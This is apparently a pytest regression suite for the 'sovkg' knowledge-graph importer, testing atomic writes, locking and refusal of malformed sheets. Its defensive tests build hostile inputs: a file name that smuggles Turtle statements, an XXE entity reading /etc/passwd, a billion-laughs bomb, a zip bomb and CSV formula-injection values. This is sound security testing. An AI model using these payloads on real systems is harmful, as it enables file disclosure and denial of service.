"""What an import must never do: overwrite another sheet, leave half a file, inject Turtle, crash.

Each test is a regression test for one way the importer once lost or corrupted data, run through
the real `sovkg import` process (killed for real where the test says so).
"""

from __future__ import annotations

import os
import resource
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pyoxigraph as ox
import pytest

from sovkg.errors import EXIT_INPUT, EXIT_INTERRUPTED, EXIT_OK
from sovkg.project import Project

from .conftest import FIXTURES, Runner, copy_project, run_sovkg

WALK = FIXTURES / "walkthrough"
ID = "https://w3id.org/sovkg/id/"


def with_freedonia(project: Project) -> Project:
    assert run_sovkg("new-country", "XF", "--name", "Freedonia", cwd=project.root).returncode == EXIT_OK
    scaffold = project.kg / "countries" / "xf.ttl"
    scaffold.write_text(scaffold.read_text() + "\n" + (WALK / "source.ttl").read_text())
    (project.root / "sources").mkdir(exist_ok=True)
    shutil.copy(WALK / "freedonia-ai-plan.txt", project.root / "sources")
    return project


@pytest.fixture
def xf(project_copy: Project) -> Project:
    return with_freedonia(project_copy)


def imported_files(project: Project) -> list[Path]:
    folder = project.kg / "imported"
    return sorted(folder.glob("*.ttl")) if folder.exists() else []


# ---------------------------------------------------------------- sheets never overwrite each other

def test_two_sheets_with_the_same_name_keep_their_own_files(xf: Project, sovkg: Runner, tmp_path: Path) -> None:
    """Regression: imports went to kg/imported/<file stem>.ttl, so a second compute.csv from another
    folder silently replaced the first, leaving the first's funding facts without type or label."""
    first = tmp_path / "a" / "compute.csv"
    first.parent.mkdir()
    shutil.copy(WALK / "compute.csv", first)
    assert sovkg("import", str(WALK / "actors.csv"), cwd=xf.root).returncode == EXIT_OK
    assert sovkg("import", str(first), cwd=xf.root).returncode == EXIT_OK
    second = tmp_path / "b" / "compute.csv"
    second.parent.mkdir()
    second.write_text("country,name,kind,source,quote\n"
                      "XF,Fredville Quantum Lab,data centre,src-xf-plan,Freedonia National AI Plan\n")
    done = sovkg("import", str(second), "--kind", "compute", cwd=xf.root)
    assert done.returncode == EXIT_OK, done.stderr
    assert len(imported_files(xf)) == 3
    text = "".join(p.read_text() for p in imported_files(xf))
    assert ":FreedoniaNationalSupercomputer a" in text and ":FredvilleQuantumLab a" in text
    # The same rows from another place are the same entities: refused, not duplicated.
    third = tmp_path / "c" / "compute.csv"
    third.parent.mkdir()
    shutil.copy(WALK / "compute.csv", third)
    again = sovkg("import", str(third), cwd=xf.root)
    assert again.returncode == EXIT_INPUT
    assert "compute.csv:2:nameAndLocation: :FreedoniaNationalSupercomputer is already described in " \
        "kg/imported/compute-" in again.stderr
    assert sovkg("validate", cwd=xf.root).returncode == EXIT_OK


# ---------------------------------------------------------------- transactions

def _start_import(project: Project, sheet: Path) -> subprocess.Popen[str]:
    environment = {k: v for k, v in os.environ.items() if not k.startswith("SOVKG_")}
    return subprocess.Popen([sys.executable, "-m", "sovkg", "import", str(sheet)], cwd=project.root,
                            env=environment, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def test_an_import_killed_at_any_moment_leaves_kg_as_it_was_or_complete(tmp_path: Path) -> None:
    """Regression: the importer wrote into kg/, validated, and restored on failure; SIGINT or
    kill -9 between 0.8 and 1.6 s left unvalidated rows in kg/imported/ and the next build failed.
    Now the file appears whole, by one rename, after validation, or not at all."""
    reference = with_freedonia(copy_project(tmp_path / "reference"))
    assert run_sovkg("import", str(WALK / "actors.csv"), cwd=reference.root).returncode == EXIT_OK
    started = time.monotonic()
    done = run_sovkg("import", str(WALK / "compute.csv"), cwd=reference.root)
    duration = time.monotonic() - started
    assert done.returncode == EXIT_OK, done.stderr
    [complete] = [p for p in imported_files(reference) if p.name.startswith("compute-")]
    expected = complete.read_text()

    project = with_freedonia(copy_project(tmp_path / "project"))
    assert run_sovkg("import", str(WALK / "actors.csv"), cwd=project.root).returncode == EXIT_OK
    [actors] = imported_files(project)
    outcomes = []
    for number, fraction in enumerate((0.15, 0.35, 0.55, 0.7, 0.8, 0.88, 0.94, 0.98, 1.02)):
        for stale in imported_files(project):
            if stale != actors:
                stale.unlink()
        process = _start_import(project, WALK / "compute.csv")
        time.sleep(duration * fraction)
        process.send_signal(signal.SIGINT if number % 3 == 2 else signal.SIGKILL)
        _, stderr = process.communicate(timeout=60)
        assert "Traceback" not in stderr
        if process.returncode == EXIT_INTERRUPTED:
            assert "sovkg: interrupted;" in stderr
        files = [f for f in imported_files(project) if f != actors]
        assert files == [] or [f.read_text() for f in files] == [expected], fraction
        outcomes.append("complete" if files else "nothing")
    # Whatever each kill left, the project validates, and a new import finishes the work.
    assert run_sovkg("validate", cwd=project.root).returncode == EXIT_OK
    assert run_sovkg("import", str(WALK / "compute.csv"), cwd=project.root).returncode == EXIT_OK
    assert [f.read_text() for f in imported_files(project) if f != actors] == [expected]
    assert "nothing" in outcomes  # at least the early kills happened before the rename


def test_two_imports_at_once_never_both_write_the_same_entities(xf: Project, tmp_path: Path) -> None:
    """Two imports that would each be valid alone but not together: the lock lets one finish, and
    the other then sees its facts and refuses."""
    assert run_sovkg("import", str(WALK / "actors.csv"), cwd=xf.root).returncode == EXIT_OK
    copies = []
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        copies.append(Path(shutil.copy(WALK / "compute.csv", tmp_path / name / "compute.csv")))
    processes = [_start_import(xf, sheet) for sheet in copies]
    codes = sorted(process.wait(timeout=300) for process in processes)
    assert codes == [EXIT_OK, EXIT_INPUT]
    assert len([p for p in imported_files(xf) if p.name.startswith("compute-")]) == 1
    assert run_sovkg("validate", cwd=xf.root).returncode == EXIT_OK


def test_a_refused_import_writes_nothing_and_leaves_no_temporary_file(xf: Project, sovkg: Runner,
                                                                      tmp_path: Path) -> None:
    sheet = tmp_path / "funding.csv"
    sheet.write_text("project,funder,share,source,quote\n"
                     "Gefion supercomputer,Meta,30%,src-xf-plan,words the source never wrote\n")
    before = sorted(p.relative_to(xf.root) for p in xf.kg.rglob("*"))
    done = sovkg("import", str(sheet), cwd=xf.root)
    assert done.returncode == 1
    assert sorted(p.relative_to(xf.root) for p in xf.kg.rglob("*")) == before


# ---------------------------------------------------------------- rows, cells and file names

def test_a_newline_in_the_file_name_cannot_inject_turtle(xf: Project, sovkg: Runner, tmp_path: Path) -> None:
    """Regression: the sheet's file name was pasted into the Turtle, so a newline in it wrote
    statements of its own that survived the build."""
    name = 'evil\n:Injected a sov:Company ; rdfs:label "Injected"@en ; sov:headquarteredIn :US .\n#.csv'
    sheet = tmp_path / name
    sheet.write_text("name,kind,country,source,quote\nHonest Company,company,XF,src-xf-plan,"
                     "Freedonia National AI Plan\n")
    done = sovkg("import", str(sheet), cwd=xf.root)
    assert done.returncode == EXIT_OK, done.stderr
    [written] = imported_files(xf)
    store = ox.Store()
    store.load(path=str(written), format=ox.RdfFormat.TURTLE)
    subjects = {q.subject.value for q in store if isinstance(q.subject, ox.NamedNode)}
    assert ID + "Injected" not in subjects and ID + "HonestCompany" in subjects
    locators = [q.object.value for q in store.quads_for_pattern(None, ox.NamedNode(
        "https://w3id.org/sovkg/ontology#locator"), None)]
    assert locators == [f"{name} row 2"]  # the name is kept, as an escaped literal


def test_blank_rows_keep_the_spreadsheet_row_numbers(xf: Project, sovkg: Runner, tmp_path: Path) -> None:
    """Regression: blank rows shifted the reported row numbers (row 5 was reported as row 3)."""
    sheet = tmp_path / "actors.csv"
    sheet.write_text("name,kind,country,source,quote\n\n\n"
                     "Lost Actor,company,Narnia,src-xf-plan,Freedonia National AI Plan\n")
    done = sovkg("import", str(sheet), cwd=xf.root)
    assert done.returncode == EXIT_INPUT
    assert "actors.csv:4:country: no state or union named 'Narnia'" in done.stderr


def test_duplicate_headers_are_refused(xf: Project, sovkg: Runner, tmp_path: Path) -> None:
    """Regression: with two columns of the same name, the last one won silently."""
    sheet = tmp_path / "actors.csv"
    sheet.write_text("name,kind,country,country,source,quote\nA,company,XF,US,src-xf-plan,x\n")
    done = sovkg("import", str(sheet), cwd=xf.root)
    assert done.returncode == EXIT_INPUT
    assert "actors.csv:1:country: the column 'country' appears twice (columns 3 and 4)" in done.stderr


def test_an_unknown_column_is_refused_with_the_known_ones(xf: Project, sovkg: Runner, tmp_path: Path) -> None:
    sheet = tmp_path / "actors.csv"
    sheet.write_text("name,kind,country,ownr,source,quote\nA,company,XF,Nvidia,src-xf-plan,x\n")
    done = sovkg("import", str(sheet), cwd=xf.root)
    assert done.returncode == EXIT_INPUT
    assert "actors.csv:1:ownr: unknown column for a actors sheet; its columns are name, kind, country, owner" \
        in done.stderr


def test_a_latin1_csv_gets_a_message_not_a_traceback(xf: Project, sovkg: Runner, tmp_path: Path) -> None:
    sheet = tmp_path / "actors.csv"
    sheet.write_bytes("name,kind,country,source,quote\nCaf\u00e9 Compute,company,XF,src-xf-plan,x\n".encode("latin-1"))
    done = sovkg("import", str(sheet), cwd=xf.root)
    assert done.returncode == EXIT_INPUT
    assert "actors.csv:2: the file is not UTF-8 text (byte 0xE9)" in done.stderr and "CSV UTF-8" in done.stderr
    assert "Traceback" not in done.stderr


def test_a_cell_over_128_kb_gets_a_message(xf: Project, sovkg: Runner, tmp_path: Path) -> None:
    sheet = tmp_path / "actors.csv"
    sheet.write_text("name,kind,country,source,quote\n\nA,company,XF,src-xf-plan," + "x" * 140_000 + "\n")
    done = sovkg("import", str(sheet), cwd=xf.root)
    assert done.returncode == EXIT_INPUT
    assert "actors.csv:3: a cell is longer than 128 KB" in done.stderr and "Traceback" not in done.stderr


# ---------------------------------------------------------------- hostile and broken workbooks

def _workbook(path: Path, rows: list[list[object]]) -> Path:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


def _replace_part(path: Path, part: str, content: bytes) -> None:
    with zipfile.ZipFile(path) as original:
        parts = {info.filename: original.read(info) for info in original.infolist()}
    parts[part] = content
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as rewritten:
        for name, data in parts.items():
            rewritten.writestr(name, data)


def test_a_formula_without_a_saved_value_is_refused(xf: Project, sovkg: Runner, tmp_path: Path) -> None:
    """Regression: a formula cell that no program had computed imported as an entity with an empty label."""
    book = _workbook(tmp_path / "actors.xlsx", [["name", "kind", "country", "source", "quote"], [],
                                                ['=CONCAT("Fict","ional")', "company", "XF", "src-xf-plan", "x"]])
    done = sovkg("import", str(book), cwd=xf.root)
    assert done.returncode == EXIT_INPUT
    assert "actors.xlsx:3:A: a formula (=CONCAT(\"Fict\",\"ional\")) whose value was never saved" in done.stderr


def test_a_file_that_is_not_a_workbook_is_refused(xf: Project, sovkg: Runner, tmp_path: Path) -> None:
    fake = tmp_path / "actors.xlsx"
    fake.write_text("name,kind,country\n")
    done = sovkg("import", str(fake), cwd=xf.root)
    assert done.returncode == EXIT_INPUT
    assert "actors.xlsx: not an .xlsx workbook" in done.stderr and "Traceback" not in done.stderr


XXE = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
       b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
       b'<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>')
LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10))
          + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>')


@pytest.mark.parametrize("content", [XXE, LAUGHS], ids=["xxe", "billion-laughs"])
def test_xml_entity_attacks_in_a_workbook_are_refused(xf: Project, sovkg: Runner, tmp_path: Path,
                                                      content: bytes) -> None:
    book = _workbook(tmp_path / "actors.xlsx", [["name", "kind", "country", "source", "quote"]])
    _replace_part(book, "xl/worksheets/sheet1.xml", content)
    done = sovkg("import", str(book), cwd=xf.root)
    assert done.returncode == EXIT_INPUT
    assert "declares XML entities" in done.stderr and "Traceback" not in done.stderr
    assert "root:" not in done.stdout + done.stderr


def test_a_zip_bomb_is_refused_before_it_is_expanded(xf: Project, tmp_path: Path) -> None:
    book = _workbook(tmp_path / "actors.xlsx", [["name", "kind", "country", "source", "quote"]])
    with zipfile.ZipFile(book, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("xl/media/bomb.xml", "w") as part:
        zeros = b"\0" * 1024 ** 2
        for _ in range(1024):  # 1 GB of zeros, about 1 MB compressed
            part.write(zeros)
    assert book.stat().st_size < 20 * 1024 ** 2
    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    done = run_sovkg("import", str(book), cwd=xf.root)
    peak_kb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    assert done.returncode == EXIT_INPUT
    assert "refused: the workbook would expand to 1,024 MB" in done.stderr
    assert max(peak_kb, before) < 600 * 1024, "the refusal took hundreds of megabytes"


# ---------------------------------------------------------------- CSV exports

def test_csv_exports_neutralise_formulas_and_import_back(xf: Project, sovkg: Runner, tmp_path: Path) -> None:
    """Regression: a model named =HYPERLINK(...) came out of `sovkg query --format csv` as a live formula."""
    names = ['=HYPERLINK("http://example.org/?"&A2,"x")', "+cmd", "-2+3", "@SUM(A1)"]
    sheet = tmp_path / "models.csv"
    lines = ["country,model,modelType,openness,source,quote"]
    lines += [f'XF,"{n.replace(chr(34), chr(34) * 2)}",Pretrained from scratch,Open,src-xf-plan,'
              "Freedonia National AI Plan" for n in names]
    sheet.write_text("\n".join(lines) + "\n")
    done = sovkg("import", str(sheet), cwd=xf.root)
    assert done.returncode == EXIT_OK, done.stderr
    assert sovkg("build", cwd=xf.root).returncode == EXIT_OK
    exported = sovkg("query", "table1-models", "--format", "csv", cwd=xf.root).stdout
    import csv
    import io

    models = [row["model"] for row in csv.DictReader(io.StringIO(exported))]
    for name in names:
        assert "'" + name in models, name
    assert not any(m.startswith(("=", "+", "-", "@", "\t")) for m in models)
    # Imported again, the apostrophe comes off: the names are the same as before.
    from sovkg.authoring.sheets import read_sheet

    again = tmp_path / "export.csv"
    again.write_text(exported)
    assert {row["model"] for _, row in read_sheet(again).rows} >= set(names)


def test_tab_and_carriage_return_starts_are_neutralised_too() -> None:
    from sovkg.results.table import ResultTable

    table = ResultTable(["name"], [[ox.Literal("\tcmd")], [ox.Literal("\rcmd")], [ox.Literal("plain - text")]])
    assert table.render("csv").splitlines()[1:3] == ["'\tcmd", "\"'\rcmd\""] or "'\tcmd" in table.render("csv")
    assert "plain - text" in table.render("csv")
